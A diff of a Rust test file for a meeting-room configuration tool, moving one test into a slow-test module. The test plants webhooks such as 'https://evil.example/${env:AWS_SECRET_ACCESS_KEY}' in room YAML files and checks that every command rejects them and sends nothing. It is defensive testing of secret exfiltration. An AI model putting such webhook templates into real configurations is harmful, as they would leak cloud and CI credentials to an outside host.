@@ -194,59 +194,6 @@ fn wrong_values_and_references_are_findings() {
     );
 }
 
-/// Whatever a file asks for, with everything set: only what begins with the prefix gets a value.
-#[test]
-fn what_no_room_may_have_is_an_error_wherever_it_is_asked_for() {
-    let site = Site::new(&[], &[]);
-    site.room(0, "privacy: private\n");
-    assert_eq!(site.apply(&[]).code, 0);
-    let writes = site.writes();
-    let commands: [&[&str]; 6] = [
-        &["validate"],
-        &["plan"],
-        &["apply", "--yes"],
-        &["drift"],
-        &["show", "room-00"],
-        &["import", "--all"],
-    ];
-    for name in [
-        "TOKEN",
-        "PATH",
-        "room_token",
-        "ROOMCTL_TOKEN",
-        "METERED_SECRET_KEY",
-        "GITHUB_TOKEN",
-        "ACTIONS_RUNTIME_TOKEN",
-        "RUNNER_TEMP",
-        "AWS_SECRET_ACCESS_KEY",
-        "AZURE_CLIENT_SECRET",
-        "GOOGLE_APPLICATION_CREDENTIALS",
-    ] {
-        let variables = [(name.to_owned(), "https://hooks.example/canary".to_owned())];
-        let hook = format!("meetingJoinWebhook: https://evil.example/${{env:{name}}}\n");
-        for (file, text) in [
-            ("rooms/room-00.yaml", format!("privacy: private\n{hook}")),
-            ("rooms/_defaults.yaml", hook.clone()),
-        ] {
-            let before = site.scratch.read("rooms/room-00.yaml");
-            site.scratch.write(file, &text);
-            for command in commands {
-                // Not overwriting the account's own key: the program needs it.
-                let variables = &variables[usize::from(name == "METERED_SECRET_KEY")..];
-                let ran = site.run_with(variables, command);
-                let told = format!("{name} {file} {command:?}: {}", ran.all());
-                assert_eq!(ran.code, 3, "{told}");
-                let place = format!("{file}:{}:", text.lines().count());
-                assert!(ran.all().contains("error[variable-name]"), "{told}");
-                assert!(ran.all().contains(&place), "{told}");
-            }
-            site.scratch.write("rooms/room-00.yaml", &before);
-            let _ = std::fs::remove_file(site.scratch.path("rooms/_defaults.yaml"));
-        }
-    }
-    assert_eq!(site.writes(), writes, "something was sent");
-}
-
 #[test]
 fn another_prefix_comes_from_outside_of_the_files_only() {
     let site = Site::new(&[], &[]);
@@ -464,4 +411,62 @@ fn the_sandbox_says_that_it_makes_secrets_up() {
         "{}",
         ran.all()
     );
+}
+
+/// What takes seconds.
+mod slow {
+    use super::*;
+
+    /// Whatever a file asks for, with everything set: only what begins with the prefix gets a value.
+    #[test]
+    fn what_no_room_may_have_is_an_error_wherever_it_is_asked_for() {
+        let site = Site::new(&[], &[]);
+        site.room(0, "privacy: private\n");
+        assert_eq!(site.apply(&[]).code, 0);
+        let writes = site.writes();
+        let commands: [&[&str]; 6] = [
+            &["validate"],
+            &["plan"],
+            &["apply", "--yes"],
+            &["drift"],
+            &["show", "room-00"],
+            &["import", "--all"],
+        ];
+        for name in [
+            "TOKEN",
+            "PATH",
+            "room_token",
+            "ROOMCTL_TOKEN",
+            "METERED_SECRET_KEY",
+            "GITHUB_TOKEN",
+            "ACTIONS_RUNTIME_TOKEN",
+            "RUNNER_TEMP",
+            "AWS_SECRET_ACCESS_KEY",
+            "AZURE_CLIENT_SECRET",
+            "GOOGLE_APPLICATION_CREDENTIALS",
+        ] {
+            let variables = [(name.to_owned(), "https://hooks.example/canary".to_owned())];
+            let hook = format!("meetingJoinWebhook: https://evil.example/${{env:{name}}}\n");
+            for (file, text) in [
+                ("rooms/room-00.yaml", format!("privacy: private\n{hook}")),
+                ("rooms/_defaults.yaml", hook.clone()),
+            ] {
+                let before = site.scratch.read("rooms/room-00.yaml");
+                site.scratch.write(file, &text);
+                for command in commands {
+                    // Not overwriting the account's own key: the program needs it.
+                    let variables = &variables[usize::from(name == "METERED_SECRET_KEY")..];
+                    let ran = site.run_with(variables, command);
+                    let told = format!("{name} {file} {command:?}: {}", ran.all());
+                    assert_eq!(ran.code, 3, "{told}");
+                    let place = format!("{file}:{}:", text.lines().count());
+                    assert!(ran.all().contains("error[variable-name]"), "{told}");
+                    assert!(ran.all().contains(&place), "{told}");
+                }
+                site.scratch.write("rooms/room-00.yaml", &before);
+                let _ = std::fs::remove_file(site.scratch.path("rooms/_defaults.yaml"));
+            }
+        }
+        assert_eq!(site.writes(), writes, "something was sent");
+    }
 }
